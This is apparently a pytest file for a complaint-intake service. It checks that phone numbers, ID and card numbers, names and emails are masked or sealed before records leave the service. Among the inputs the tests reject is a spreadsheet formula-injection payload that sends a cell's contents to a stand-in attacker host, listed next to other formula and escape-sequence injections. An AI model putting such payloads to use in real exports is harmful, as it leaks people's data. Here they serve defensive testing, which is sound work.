"""What is personal until proven otherwise leaves masked, as a proven code, or not at all; it is sealed at home."""

from __future__ import annotations

from typing import Any

import orjson
import pytest

from services.intake.keyring import Keyring
from services.intake.proving import passed_on
from services.intake.sealing import RecordCodec
from services.intake.spotting import Known
from tests.rules.intake.gate import BLOCKS, SEALED, Gate, complaint, report

WHO = {"name": "John Smith", "phone": "13812345678", "email": "john.smith9@mail.example"}
KNOWN = Known.of((*WHO.values(), "johnsmith9"), ("13812345678",))


@pytest.mark.parametrize(
    "code", ("HZ", "CN-ZJ", "浙江", "C-1", "20260922090000123", "PR.2/7:8", "1695370800.12345", "<3f.9@mail.example>",
     f"<{'a' * 124}@mail.example>", "<CAFxQmWkTtYbRpLs@mail.gmail.example>", "<7!a%b~c/d@[203.0.113.9]>",
     "<AM0PR.7@WIN_SERVER>")
)  # fmt: skip
def test_a_code_leaves(code: str) -> None:
    assert passed_on({"x": code}, {"x": "code"}, KNOWN) == {"x": code}


@pytest.mark.parametrize(
    "code",
    (
        '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1)", "+1+1", "-2+3", "\t=1", "*", "\x1b[31mX", " HZ",
        "13812345678", "8613812345678-1", "138-1234-5678", "C-2026/13912345678", "１３９１２３４５６７８",
        "rec_0571-88886666",
        "110105199001011237", "11010519491231002X", "4111111111111111", "4111-1111-1111-1111",
        "john.smith", "JOHN_SMITH-1", "call-john.smith9",
        "w.fang@example.com", "<w.fang@example.com>", "<WangXiaoFang@example.com>",
        "<john.smith9@mail.example>", "<=1+1@x>\x1b", "=1@x.example",
    ),
)  # fmt: skip
def test_what_is_no_code_or_names_somebody_does_not(code: str) -> None:
    if code == "110105199001011237":  # another check digit: no identity number, only a long one
        assert passed_on({"x": code}, {"x": "code"}, KNOWN) == {"x": code}
        return
    assert passed_on({"x": code, "y": 1}, {"x": "code"}, KNOWN) == {"y": 1}
    assert passed_on({"x": code}, {"x": "code"}, KNOWN, "***") == {"x": "***"}


def test_the_persons_own_address_is_no_message_id() -> None:
    known = Known.of(("a1@mail.example",))
    assert passed_on({"x": "<A1@mail.example>"}, {"x": "code"}, known) == {}
    assert passed_on({"x": "<A2@mail.example>"}, {"x": "code"}, known) == {"x": "<A2@mail.example>"}


@pytest.mark.parametrize(
    ("address", "left"),
    (
        ("https://files.example/1.png", "https://files.example/1.png"),
        ("https://files.example/2026/09/22/3f2a9c1e-5b1d-4c52-9f0e-139876501234.pdf",) * 2,
        ("https://x.example/form?name=王芳&phone=13900000000#top", "https://x.example/form"),
        ("https://rec.example/13912345678.wav", "https://rec.example/***"),
        ("https://rec.example/2026/139-1234-5678.wav", "https://rec.example/***"),
        ("https://files.example/%E7%8E%8B%E8%8A%B3.jpg", "https://files.example/***"),
        ("https://files.example/王芳身份证.jpg", "https://files.example/***"),
        ("https://files.example/scan/John_Smith.pdf", "https://files.example/***"),
        ("https://wang:secret@files.example/1.png", "https:***"),
        ("mailto:w.fang@example.com", "mailto:***"),
        ("data:text/plain,13812345678", "data:***"),
        ("no address", "***"),
    ),
)
def test_of_an_address_leaves_what_is_made_of_codes(address: str, left: str) -> None:
    assert passed_on({"x": [address]}, {"x": {"*": "uri"}}, KNOWN) == {"x": [left]}


def test_a_complaint_leaves_nothing_unproven_and_seals_it(gate: Gate) -> None:
    marked = "13912345678"
    number = gate.registers(
        complaint(
            "phone",
            region=marked,
            object={"outlet": "HZ-017", "route": marked, "goods": f"茶具 {marked}"},
            evidence=[{"kind": "photo", "uri": f"https://f.example/{marked}.png"}],
            phone={"call_id": f"C-{marked}", "agent": "E1", "recording_uri": f"https://r.example/{marked}?t={marked}"},
        )
    )
    (output,) = gate.outputs
    assert marked not in orjson.dumps(output.data).decode()
    assert output.data["object"] == {"outlet": "HZ-017", "goods": "茶具 ***"}
    assert output.data["reference"] == {"agent": "E1", "recording_uri": "https://r.example/***"}
    (record,) = gate.records(number)
    codec = RecordCodec(Keyring(b"k" * 32), SEALED)
    row = codec.encode(record)
    assert marked not in row
    assert codec.decode(row) == record


def test_attachments_are_sealed_one_by_one(gate: Gate) -> None:
    mail = BLOCKS["email"] | {"attachments": ["https://f.example/1.png", "https://f.example/王芳.png"]}
    number = gate.registers(complaint("email", email=mail))
    assert gate.outputs[0].data["reference"]["attachments"] == ["https://f.example/1.png", "https://f.example/***"]
    (record,) = gate.records(number)
    codec = RecordCodec(Keyring(b"k" * 32), SEALED)
    row = orjson.loads(codec.encode(record))
    assert row["record"]["data"]["email"]["attachments"] == [None, None]
    assert codec.decode(orjson.dumps(row).decode()) == record


@pytest.mark.parametrize(
    ("what", "said", "place"),
    (
        ("acknowledged", {"note": "已回电 138 0000 1234，单号YT7700000000099"}, "note"),
        ("passed_on", {"to_department": "quality_management", "reason": "客户13800001234，YT7700000000099"}, "reason"),
        ("customer_answered", {"settled": False, "text": "vx13800001234 YT7700000000099"}, "text"),
    ),
)
def test_what_departments_write_is_masked(gate: Gate, what: str, said: dict[str, Any], place: str) -> None:
    number = gate.registers(complaint(waybill_number="YT7700000000099"))
    gate.hear(report(what, number, **said))
    data = gate.outputs[-1].data
    assert "YT7700000000099" in data[place]
    assert "1234" not in data[place].replace("YT7700000000099", "")
    assert {name: value for name, value in data.items() if name != place} == {
        "case_number": number, **{name: value for name, value in said.items() if name != place},
    }  # fmt: skip
